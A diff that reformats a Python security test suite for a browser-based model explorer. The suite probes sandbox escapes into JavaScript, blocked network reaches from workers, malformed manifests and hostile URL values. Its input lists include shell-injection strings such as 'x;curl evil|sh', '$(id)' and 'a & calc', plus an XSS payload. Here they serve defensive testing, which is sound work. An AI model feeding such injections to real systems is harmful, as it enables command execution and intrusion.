@@ -1,4 +1,5 @@
 """Code, runs and links of strangers, in a real Chromium: nothing leaves the site; all is text."""
+
 import contextlib
 import json
 import shlex
@@ -51,8 +52,11 @@ def elsewhere():
     server = ThreadingHTTPServer(("127.0.0.1", 0), Listener)
     server.asked = []
     threading.Thread(target=server.serve_forever, daemon=True).start()
-    yield SimpleNamespace(host=f"127.0.0.1:{server.server_port}",
-                          address=f"http://127.0.0.1:{server.server_port}", asked=server.asked)
+    yield SimpleNamespace(
+        host=f"127.0.0.1:{server.server_port}",
+        address=f"http://127.0.0.1:{server.server_port}",
+        asked=server.asked,
+    )
     server.shutdown()
     server.server_close()
 
@@ -105,12 +109,9 @@ WAYS = {  # to what in JavaScript can make a function of a text
     "the method of an array": "import _torch\n_torch.list('list', 1).map.constructor",
     "the import that was there before": "import _page\n_page.built_in('js').Function",
     "eval of the global object": "import _page\n_page.built_in('js').eval",
-    "the global object of the global object":
-        "import _page\n_page.built_in('js').globalThis.Function",
-    "an object of jsffi":
-        "import _page\n_page.built_in('jsffi').to_js({{}}).constructor.constructor",
-    "a function of jsffi":
-        "import _page\n_page.built_in('jsffi').create_proxy(print).constructor",
+    "the global object of the global object": "import _page\n_page.built_in('js').globalThis.Function",
+    "an object of jsffi": "import _page\n_page.built_in('jsffi').to_js({{}}).constructor.constructor",
+    "a function of jsffi": "import _page\n_page.built_in('jsffi').create_proxy(print).constructor",
     "sys.modules": "import sys, _page\n_page.built_in('js')\nsys.modules['js'].Function",
     "new": "import _torch\n_torch.hand.constructor.new",
 }
@@ -134,20 +135,25 @@ def test_typed_python_finds_no_way_into_javascript(judge, elsewhere, way):
 
 
 def test_typed_python_cannot_change_what_is_javascripts(judge):
-    result = judge("import _torch\n_torch.hand = _torch.operators.matmul = None\n"
-                   "_torch.operators.add = print" + RIGHT)
+    result = judge(
+        "import _torch\n_torch.hand = _torch.operators.matmul = None\n"
+        "_torch.operators.add = print" + RIGHT
+    )
     assert len(result["passed"]) == 9
 
 
-@pytest.mark.parametrize("trick", [
-    "import tryout\ntryout.stages = lambda report: None",
-    "import tryout\ntryout.stages = lambda report: report('in_model', None, None, None)",
-    "import tryout\ntryout.stages = lambda report: report({'a': 1}, print, 1, 'x')",
-    "import tryout\ntryout.attention = lambda *given: 5",
-    "import judge\njudge.stages = lambda head, torch: iter(())",
-    "import judge\njudge.CHECKS = ()\njudge.differ = lambda *a, **b: False",
-    "import builtins\nbuiltins.zip = lambda *a: iter(())",
-])
+@pytest.mark.parametrize(
+    "trick",
+    [
+        "import tryout\ntryout.stages = lambda report: None",
+        "import tryout\ntryout.stages = lambda report: report('in_model', None, None, None)",
+        "import tryout\ntryout.stages = lambda report: report({'a': 1}, print, 1, 'x')",
+        "import tryout\ntryout.attention = lambda *given: 5",
+        "import judge\njudge.stages = lambda head, torch: iter(())",
+        "import judge\njudge.CHECKS = ()\njudge.differ = lambda *a, **b: False",
+        "import builtins\nbuiltins.zip = lambda *a: iter(())",
+    ],
+)
 def test_a_wrong_head_is_not_called_right_whatever_it_does_to_the_judge(judge, trick):
     wrong = trick + RIGHT.replace(" / D**0.5", "")
     assert "in_model" not in judge(wrong)["passed"]
@@ -173,24 +179,22 @@ def test_an_answer_that_was_not_asked_for_is_no_verdict(judge):
 REACHES = {  # what a worker could ask another site by, in which nothing was taken away
     "fetch": "await fetch('{address}/')",
     "fetch without answers": "await fetch('{address}/', {{ mode: 'no-cors' }})",
-    "fetch that outlives the page":
-        "await fetch('{address}/', {{ keepalive: true, method: 'POST' }})",
+    "fetch that outlives the page": "await fetch('{address}/', {{ keepalive: true, method: 'POST' }})",
     "import": "await import('{address}/remote.js')",
     "import of data": "await import('data:text/javascript,postMessage(1)')",
     "XMLHttpRequest": "await new Promise((yes, no) => {{ const ask = new XMLHttpRequest();"
-                      " Object.assign(ask, {{ onerror: no, onload: yes }});"
-                      " ask.open('GET', '{address}/'); ask.send(); }})",
+    " Object.assign(ask, {{ onerror: no, onload: yes }});"
+    " ask.open('GET', '{address}/'); ask.send(); }})",
     "WebSocket": "await new Promise((yes, no) => {{ const ask = new WebSocket('ws://{host}/');"
-                 " ask.onerror = no; ask.onopen = yes; }})",
+    " ask.onerror = no; ask.onopen = yes; }})",
     "EventSource": "await new Promise((yes, no) => {{ const ask = new EventSource('{address}/');"
-                   " ask.onerror = no; ask.onopen = yes; }})",
+    " ask.onerror = no; ask.onopen = yes; }})",
     "importScripts": "importScripts('{address}/remote.js')",
     "sendBeacon": "navigator.sendBeacon('{address}/')",
     "a worker of another site": "await ended(new Worker('{address}/remote.js'))",
-    "a worker of this site, which would have no policy":
-        "await ended(new Worker('{here}/engine/worker.js', {{ type: 'module' }}))",
+    "a worker of this site, which would have no policy": "await ended(new Worker('{here}/engine/worker.js', {{ type: 'module' }}))",
     "a worker in the worker": "await ended(new Worker(URL.createObjectURL(new Blob(["
-        "`fetch('{address}/').catch(() => setTimeout(() => {{ throw 1; }}))`]))))",
+    "`fetch('{address}/').catch(() => setTimeout(() => {{ throw 1; }}))`]))))",
     "eval": "eval('1')",
     "Function": "Function('return 1')()",
     "a function of a function": "(() => 0).constructor('return 1')()",
@@ -224,12 +228,19 @@ def test_the_engine_of_every_page_is_started_with_the_policy(browser, shipped, e
                 page.wait_for_event("worker")
             assert all(worker.url.startswith("blob:") for worker in page.workers)
             for worker in page.workers:
-                assert worker.evaluate("""(address) => import(`${address}/remote.js`).then(
-                    () => "allowed", () => "refused")""", elsewhere.address) == "refused"
+                assert (
+                    worker.evaluate(
+                        """(address) => import(`${address}/remote.js`).then(
+                    () => "allowed", () => "refused")""",
+                        elsewhere.address,
+                    )
+                    == "refused"
+                )
     assert elsewhere.asked == []
 
 
 # Runs of strangers ------------------------------------------------------------------------------
+
 
 def every_file(address):
     return lambda m: [one.update(file=address) for one in m["snapshots"]]
@@ -247,15 +258,19 @@ MANIFESTS = {
     "weights in an address of data": lambda at: every_file("data:application/octet-stream,1.bin"),
     "weights with a question": lambda at: every_file("weights/000000.bin?leak"),
     "a list for an address": lambda at: every_file(["weights/000000.bin"]),
-    "a file outside of the run": lambda at: lambda m: m["files"].update(
-        {"../../index.json": dict(bytes=1, sha256="")}),
+    "a file outside of the run": lambda at: (
+        lambda m: m["files"].update({"../../index.json": dict(bytes=1, sha256="")})
+    ),
     "endless layers": lambda at: setting(n_layer=10**9),
     "an endless context": lambda at: setting(n_ctx=2**31),
     "heads that do not divide the width": lambda at: setting(n_head=3),
     "no heads": lambda at: setting(n_head=0),
     "a dataset that is no text": lambda at: setting(dataset={"constructor": 1}),
-    "tokens that are templates": lambda at: lambda m: m["tokenizer"].update(
-        vocab=[{"_$litType$": 1, "strings": ["<img src=x>"], "values": []}] * 512),
+    "tokens that are templates": lambda at: (
+        lambda m: m["tokenizer"].update(
+            vocab=[{"_$litType$": 1, "strings": ["<img src=x>"], "values": []}] * 512
+        )
+    ),
     "prompts that are objects": lambda at: lambda m: m.update(prompts=[{"__proto__": {}}]),
     "steps that are texts": lambda at: lambda m: m.update(sampled_steps=["0"]),
     "no settings": lambda at: lambda m: m.update(settings=None),
@@ -266,10 +281,12 @@ MANIFESTS = {
 @contextlib.contextmanager
 def changed(page, how):
     """The manifest of the shipped run, changed on its way into a page."""
+
     def fulfil(route):
         content = json.loads((RUN / "manifest.json").read_text("utf-8"))
         how(content)
         route.fulfill(json=content)
+
     page.route("**/manifest.json", fulfil)
     yield
     page.unroute("**/manifest.json")
@@ -306,10 +323,20 @@ def test_weights_that_do_not_fit_their_settings_are_said_to_be_so(visited, shipp
     assert visited.errors == []
 
 
-@pytest.mark.parametrize("link", [
-    "run=//{host}/x", "run=http:{address}/x", "run=..", "run=.", "run=../..", "run=%2e%2e/%2e%2e/",
-    "run=stories&versus=run:../../x", "run=stories&versus=run://{host}", "text={address}",
-])
+@pytest.mark.parametrize(
+    "link",
+    [
+        "run=//{host}/x",
+        "run=http:{address}/x",
+        "run=..",
+        "run=.",
+        "run=../..",
+        "run=%2e%2e/%2e%2e/",
+        "run=stories&versus=run:../../x",
+        "run=stories&versus=run://{host}",
+        "text={address}",
+    ],
+)
 def test_a_link_leads_no_page_to_another_site(visited, shipped, elsewhere, link):
     asked = []
     visited.on("request", lambda request: asked.append(request.url))
@@ -322,6 +349,7 @@ def test_a_link_leads_no_page_to_another_site(visited, shipped, elsewhere, link)
 
 
 # What damage leaves -----------------------------------------------------------------------------
+
 
 def test_a_token_that_was_given_does_not_wait_for_weights_that_are_damaged(browser, tmp_path):
     site = tmp_path / "site"
@@ -343,28 +371,65 @@ def test_some_damaged_exports_leave_no_page_blank_and_no_figure_waiting(browser)
 
 # Commands ---------------------------------------------------------------------------------------
 
-NASTY = ["x;curl evil|sh", "x && y", "$(id)", "`id`", "a b", "x\nrm", "'", '"', "%PATH%", "!!",
-         "x\u202ey", "", "--out=/etc x", "a/b", "../x"]
+NASTY = [
+    "x;curl evil|sh",
+    "x && y",
+    "$(id)",
+    "`id`",
+    "a b",
+    "x\nrm",
+    "'",
+    '"',
+    "%PATH%",
+    "!!",
+    "x\u202ey",
+    "",
+    "--out=/etc x",
+    "a/b",
+    "../x",
+]
 
 
 @pytest.mark.parametrize("name", NASTY)
 def test_a_name_that_is_no_word_is_in_no_command(judge, name):
     said = judge.page.evaluate(
-        "async (name) => (await import('/app/command.js')).exportCommand(name)", name)
+        "async (name) => (await import('/app/command.js')).exportCommand(name)", name
+    )
     assert said == "python export_for_web.py"
 
 
-@pytest.mark.parametrize("folder, words", [
-    ("runs/tale", ["runs/tale"]), ("/home/me/my novel (1)", ["/home/me/my novel (1)"]),
-    ("runs/Anna's", ["runs/Anna's"]), ("../x;curl evil|sh", ["../x;curl evil|sh"]),
-    ("C:\\Users\\me\\runs\\tale", ["C:\\Users\\me\\runs\\tale"]), ("runs/長編", ["runs/長編"]),
-    ("a & calc", ["a & calc"]),
-    *[(name, ["runs/tale"]) for name in ("$(id)", "`id`", 'x" y', "%PATH%", "--out=x", "x\x1b[2J",
-                                         5, None, ["a"], "x\\", "")],
-])
+@pytest.mark.parametrize(
+    "folder, words",
+    [
+        ("runs/tale", ["runs/tale"]),
+        ("/home/me/my novel (1)", ["/home/me/my novel (1)"]),
+        ("runs/Anna's", ["runs/Anna's"]),
+        ("../x;curl evil|sh", ["../x;curl evil|sh"]),
+        ("C:\\Users\\me\\runs\\tale", ["C:\\Users\\me\\runs\\tale"]),
+        ("runs/長編", ["runs/長編"]),
+        ("a & calc", ["a & calc"]),
+        *[
+            (name, ["runs/tale"])
+            for name in (
+                "$(id)",
+                "`id`",
+                'x" y',
+                "%PATH%",
+                "--out=x",
+                "x\x1b[2J",
+                5,
+                None,
+                ["a"],
+                "x\\",
+                "",
+            )
+        ],
+    ],
+)
 def test_a_command_names_the_folder_of_a_run_as_one_word_or_not_at_all(judge, folder, words):
     said = judge.page.evaluate(
-        "async (folder) => (await import('/app/command.js')).exportCommand('tale', folder)", folder)
+        "async (folder) => (await import('/app/command.js')).exportCommand('tale', folder)", folder
+    )
     assert shlex.split(said) == ["python", "export_for_web.py", *words]
 
 
@@ -392,11 +457,38 @@ def test_what_a_run_calls_its_corpus_is_quoted_where_it_is_to_be_typed(visited, 
 
 # Addresses --------------------------------------------------------------------------------------
 
-VALUES = ["NaN", "1e99", "-1e99", "[1,2]", "__proto__", "constructor", "%E2%80%AEx", "x" * 5000,
-          "<img src=x onerror=alert(1)>", "0x10", "%00", "1.0.0", "step:__proto__", "off:9.9",
-          "temperature:NaN", ""]
-KEYS = ["step", "prompt", "head", "temperature", "seed", "text", "position",
-        "comparedPosition", "versus", "exercise", "__proto__", "constructor"]
+VALUES = [
+    "NaN",
+    "1e99",
+    "-1e99",
+    "[1,2]",
+    "__proto__",
+    "constructor",
+    "%E2%80%AEx",
+    "x" * 5000,
+    "<img src=x onerror=alert(1)>",
+    "0x10",
+    "%00",
+    "1.0.0",
+    "step:__proto__",
+    "off:9.9",
+    "temperature:NaN",
+    "",
+]
+KEYS = [
+    "step",
+    "prompt",
+    "head",
+    "temperature",
+    "seed",
+    "text",
+    "position",
+    "comparedPosition",
+    "versus",
+    "exercise",
+    "__proto__",
+    "constructor",
+]
 
 
 @pytest.mark.parametrize("name", ["index.html", "explore.html", "write.html"])
@@ -414,8 +506,10 @@ def test_no_value_in_an_address_breaks_a_page(browser, shipped, name):
 
 # Right to left ----------------------------------------------------------------------------------
 
-ARABIC = str.maketrans({chr(ord("a") + i): chr(0x628 + i) for i in range(26)}
-                       | {chr(ord("A") + i): chr(0x628 + i) for i in range(26)})
+ARABIC = str.maketrans(
+    {chr(ord("a") + i): chr(0x628 + i) for i in range(26)}
+    | {chr(ord("A") + i): chr(0x628 + i) for i in range(26)}
+)
 
 
 @pytest.fixture(scope="module")
